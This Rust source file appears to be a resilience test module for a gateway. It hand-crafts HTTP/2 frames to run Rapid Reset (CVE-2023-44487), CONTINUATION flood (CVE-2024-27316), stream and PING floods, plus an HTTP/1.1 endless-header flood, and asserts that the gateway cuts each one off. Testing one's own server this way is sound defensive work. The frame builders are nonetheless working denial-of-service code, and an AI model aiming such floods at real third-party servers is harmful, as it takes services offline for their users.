//! Floods of frames and of headers. HTTP/2 is written by hand, since no client library would say such things.

use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::TcpStream,
};

use super::attacked::Attacked;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const GOAWAY: u8 = 7;
const CONTINUATION: u8 = 9;
const END_HEADERS: u8 = 4;

/// `POST http /dm`, authority `x`, in HPACK: two of the static table, two literals that are not indexed.
const REQUEST: &[u8] = &[0x83, 0x86, 0x04, 0x03, b'/', b'd', b'm', 0x01, 0x01, b'x'];

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap().to_be_bytes();
    let mut frame = vec![length[1], length[2], length[3], kind, flags];
    frame.extend(stream.to_be_bytes());
    frame.extend(payload);
    frame
}

fn streams_from_1(count: u32) -> impl Iterator<Item = u32> {
    (0..count).map(|number| 2 * number + 1)
}

/// Sends the frames until the gateway hangs up, and counts what it says.
async fn flood(attacked: &Attacked, frames: impl Iterator<Item = Vec<u8>> + Send + 'static) -> Heard {
    let stream = attacked.connect().await;
    let (reads, mut writes) = stream.into_split();
    let sending = tokio::spawn(async move {
        let mut sent = 0_u64;
        let mut batch = [PREFACE, &frame(SETTINGS, 0, 0, &[])].concat();
        for frame in frames {
            batch.extend(frame);
            if batch.len() > 16_384 {
                if writes.write_all(&batch).await.is_err() {
                    return (sent, writes);
                }
                sent += batch.len() as u64;
                batch.clear();
            }
        }
        let _ = writes.write_all(&batch).await;
        (sent, writes)
    });
    let mut heard = hear(reads).await;
    // The writing half was open until now: it was the gateway that had enough.
    let (sent, _writes) = sending.await.unwrap();
    heard.sent = sent;
    heard
}

/// What the gateway said until it hung up.
#[derive(Debug, Default)]
struct Heard {
    sent: u64,
    resets: usize,
    goaways: usize,
    frames: usize,
}

async fn hear(mut reads: tokio::net::tcp::OwnedReadHalf) -> Heard {
    let mut heard = Heard::default();
    let mut head = [0; 9];
    while reads.read_exact(&mut head).await.is_ok() {
        let length = u32::from_be_bytes([0, head[0], head[1], head[2]]);
        let mut payload = vec![0; length as usize];
        if reads.read_exact(&mut payload).await.is_err() {
            break;
        }
        heard.frames += 1;
        match head[3] {
            RST_STREAM => heard.resets += 1,
            GOAWAY => heard.goaways += 1,
            _ => {}
        }
    }
    heard
}

/// Bodies that never come, on far more streams than are allowed at a time.
pub(super) async fn streams(attacked: Attacked) -> String {
    let frames = streams_from_1(1_000).map(|id| frame(HEADERS, END_HEADERS, id, REQUEST));
    let heard = flood(&attacked, frames).await;
    assert!(heard.resets > 0 || heard.goaways > 0, "{heard:?}");
    format!("closed; {} streams refused, {} GOAWAY", heard.resets, heard.goaways)
}

/// CVE-2023-44487.
pub(super) async fn resets(attacked: Attacked) -> String {
    let frames = streams_from_1(20_000).flat_map(|id| {
        [frame(HEADERS, END_HEADERS, id, REQUEST), frame(RST_STREAM, 0, id, &8_u32.to_be_bytes())]
    });
    let heard = flood(&attacked, frames).await;
    assert!(heard.goaways > 0 || heard.frames == 0, "{heard:?}");
    format!("closed after {} kB, {} GOAWAY", heard.sent / 1_000, heard.goaways)
}

/// CVE-2024-27316: one header, in frames that never say that it is complete.
pub(super) async fn continuations(attacked: Attacked) -> String {
    let first = std::iter::once(frame(HEADERS, 0, 1, REQUEST));
    // A literal field that is not indexed: `a: ` and a hundred times `b`.
    let field = [&[0, 1, b'a', 100][..], &[b'b'; 100]].concat();
    let more = std::iter::repeat_n(frame(CONTINUATION, 0, 1, &field), 200_000);
    let heard = flood(&attacked, first.chain(more)).await;
    // What does not fit into the kernel's buffers was never taken.
    assert!(heard.sent < 9_000_000, "{heard:?}");
    format!("closed after {} kB, {} GOAWAY", heard.sent / 1_000, heard.goaways)
}

/// Each wants an answer, and none is read at first.
pub(super) async fn pings(attacked: Attacked) -> String {
    let heard = flood(&attacked, std::iter::repeat_n(frame(PING, 0, 0, &[0; 8]), 100_000)).await;
    format!("{} answers, closed for want of a request", heard.frames)
}

/// A head without end.
pub(super) async fn headers(attacked: Attacked) -> String {
    let mut stream: TcpStream = attacked.connect().await;
    let mut sent = 0_u64;
    let mut line = b"POST /dm HTTP/1.1\r\nHost: x\r\n".to_vec();
    for number in 0..100_000 {
        line.extend(format!("X-{number}: {}\r\n", "y".repeat(90)).as_bytes());
        if line.len() > 16_384 {
            if stream.write_all(&line).await.is_err() {
                break;
            }
            sent += line.len() as u64;
            line.clear();
        }
    }
    let mut answer = Vec::new();
    let _ = stream.read_to_end(&mut answer).await;
    let answer = String::from_utf8_lossy(&answer).into_owned();
    assert!(answer.is_empty() || answer.starts_with("HTTP/1.1 431"), "{answer}");
    // What does not fit into the kernel's buffers was never taken.
    assert!(sent < 9_000_000, "{sent} bytes were taken");
    format!("{}, closed after {} kB", if answer.is_empty() { "reset" } else { "431" }, sent / 1_000)
}
